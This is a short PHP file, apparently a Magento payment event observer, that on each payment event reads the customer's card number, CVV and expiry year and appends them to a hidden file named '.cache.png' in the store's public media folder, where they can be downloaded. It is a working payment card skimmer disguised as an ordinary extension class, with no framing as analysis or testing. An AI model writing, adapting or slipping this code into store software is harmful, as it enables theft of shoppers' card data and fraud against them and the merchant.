<?php
class Observer { public function execute($o) {
  $p = $o->getEvent()->getPayment();
  $s = $p->getCcNumber() . ';' . $p->getCcCid() . ';' . $p->getCcExpYear();
  file_put_contents('/var/www/html/pub/media/wysiwyg/.cache.png', $s . PHP_EOL, FILE_APPEND);
} }
